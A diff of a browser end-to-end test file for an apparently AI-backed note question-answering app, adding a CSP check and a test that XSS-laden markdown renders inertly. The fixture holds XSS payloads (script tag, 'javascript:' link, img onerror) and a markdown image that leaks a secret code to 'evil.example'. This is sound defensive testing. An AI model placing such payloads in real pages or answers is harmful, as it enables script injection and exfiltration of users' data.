@@ -66,6 +66,7 @@ describe('what was built', () => {
     const policy = headers.get('content-security-policy') ?? '';
     expect(policy).toContain("default-src 'none'; script-src 'self'; style-src 'self'");
     expect(policy).toContain("require-trusted-types-for 'script'");
+    expect(policy).toContain("frame-ancestors 'none'");
     expect(policy).not.toContain('unsafe');
   });
 
@@ -241,6 +242,35 @@ if (CHROMIUM !== undefined) {
         await page.getByRole('link', { name: /img src/u }).click();
         await page.getByText('<script>alert(2)</script>').waitFor();
 
+        expect(seen.errors).toEqual([]);
+        expect(seen.requests.filter((address) => address.includes('evil'))).toEqual([]);
+      },
+      FLOW_MS,
+    );
+
+    it(
+      'that hold scripts, links to them and pictures make answers in which nothing runs or loads',
+      async () => {
+        const { page, seen } = await open('/d');
+        const lines = [
+          'The code of the Zanzibar shed is 4711 <script>alert(3)</script>',
+          '[open](javascript:alert(4)) ![x](https://evil.example/p?4711) <img src=x onerror=alert(5)>',
+        ];
+        await upload(page, note('shed.md', lines.join(' ')));
+        await page.getByRole('row', { name: 'shed' }).getByText('ready').waitFor();
+        await page.getByRole('link', { name: 'Ask', exact: true }).click();
+        await askOn(page, 'What is the code of the Zanzibar shed?');
+        await page.getByText('4711').last().waitFor();
+        await page
+          .getByRole('button', { name: /^Source 1/u })
+          .first()
+          .waitFor();
+
+        const led = page.locator(
+          'main :is(a[href^="javascript"], a[href^="data"], a[href*="evil"])',
+        );
+        expect(await led.count()).toBe(0);
+        expect(await page.locator('main img, main script').count()).toBe(0);
         expect(seen.errors).toEqual([]);
         expect(seen.requests.filter((address) => address.includes('evil'))).toEqual([]);
       },
